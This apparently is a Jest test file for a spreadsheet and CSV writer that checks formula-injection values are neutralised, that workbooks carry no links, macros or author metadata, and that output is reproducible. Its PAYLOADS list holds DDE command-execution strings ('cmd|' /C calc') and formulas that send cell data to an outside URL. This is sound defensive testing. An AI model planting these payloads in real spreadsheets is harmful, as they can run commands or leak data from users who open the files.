import { describe, expect, it, jest } from '@jest/globals';
import { fromBufferPromise } from 'yauzl';
import { plainText, readTable, safeSheetName, safeText, writeCsv, writeWorkbook } from './index.js';

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://example.org/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=IMPORTXML("http://example.org","//a")',
  '=WEBSERVICE("http://example.org")',
  '@echo',
  '=\u0000"x"',
  '+49 30 1234',
  '-',
  '=',
  '=A1\ud800',
  '=DDE("x";"y";"z")',
  '+cmd|x',
];

const parts = async (workbook: Uint8Array): Promise<ReadonlyMap<string, string>> => {
  const archive = await fromBufferPromise(Buffer.from(workbook));
  const found = new Map<string, string>();
  for await (const entry of archive.eachEntry()) {
    const chunks: Buffer[] = [];
    for await (const chunk of await archive.openReadStreamPromise(entry)) chunks.push(chunk as Buffer);
    found.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
  }
  return found;
};

describe('what is written for spreadsheet programs', () => {
  it.each(PAYLOADS)('keeps %j text in a cell and gives it back as it was', (payload) => {
    const written = safeText(payload);
    expect(written).toMatch(/^'/);
    const unwritable = new RegExp(`[${String.fromCharCode(0)}${String.fromCharCode(8)}]`, 'g');
    expect(plainText(written)).toBe(payload.toWellFormed().replace(unwritable, ''));
  });

  it('leaves ordinary text and an apostrophe of its own alone', () => {
    expect(safeText("l'officier")).toBe("l'officier");
    expect(plainText("'quoted'")).toBe("'quoted'");
  });

  it('holds no formula, no link, no macro and no author in a workbook', async () => {
    const rows = PAYLOADS.map((payload) => [payload, 7]);
    const workbook = await writeWorkbook([{ name: '=Staff', header: ['=rank', '+women'], rows }]);
    const found = await parts(workbook);
    const all = [...found.values()].join('');
    expect(all).not.toMatch(/<f[ >]|TargetMode="External"|vbaProject|<!DOCTYPE/);
    expect(all).not.toMatch(/<dc:creator>[^<]+|<cp:lastModifiedBy>[^<]+/);
    const read = await readTable(workbook, 'x.xlsx');
    if (!read.ok) throw new Error(read.fault.code);
    expect(read.table.rows[0]).toEqual(["'=rank", "'+women"]);
    expect(read.table.rows.slice(1).every(([text]) => text?.startsWith("'"))).toBe(true);
    expect(read.table.rows[1]?.[1]).toBe('7');
  });

  it('holds no formula in a CSV file', async () => {
    const csv = writeCsv({ header: ['=rank', 'women'], rows: PAYLOADS.map((payload) => [payload, -7]) });
    const read = await readTable(csv, 'x.csv');
    if (!read.ok) throw new Error(read.fault.code);
    expect(read.table.rows.every(([text]) => !/^[=+\-@]/.test(text ?? ''))).toBe(true);
    expect(read.table.rows[1]?.[1]).toBe('-7');
    expect([...csv.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('is the same file at another time, and tells no time', async () => {
    const sheets = [{ name: 'Staff', header: ['rank', 'women'], rows: [['a', 1]] }];
    const now = await writeWorkbook(sheets);
    const clock = jest.spyOn(Date, 'now').mockReturnValue(Date.UTC(2031, 4, 5, 6, 7, 8));
    const later = await writeWorkbook(sheets);
    clock.mockRestore();
    expect(Buffer.compare(Buffer.from(later), Buffer.from(now))).toBe(0);
    const archive = await fromBufferPromise(Buffer.from(now));
    for await (const entry of archive.eachEntry())
      expect(entry.getLastModDate({ timezone: 'UTC' }).toISOString()).toBe('1980-01-01T00:00:00.000Z');
  });

  it.each([
    ["='Budget' 2026/27 [draft]", "Budget' 2026 27  draft"],
    ['a'.repeat(40), 'a'.repeat(31)],
    ['===', 'Sheet'],
  ])('names a sheet %j as programs allow it', (name, expected) => {
    expect(safeSheetName(name)).toBe(expected);
  });

  it('gives two sheets of one name two names', async () => {
    const sheet = { name: 'Staff', header: ['a'], rows: [[1]] };
    const read = await readTable(await writeWorkbook([sheet, sheet, { ...sheet, name: 'STAFF' }]), 'x.xlsx');
    expect(read).toMatchObject({ ok: true, table: { sheet: 'Staff', otherSheets: ['Staff 2', 'STAFF 3'] } });
  });
});
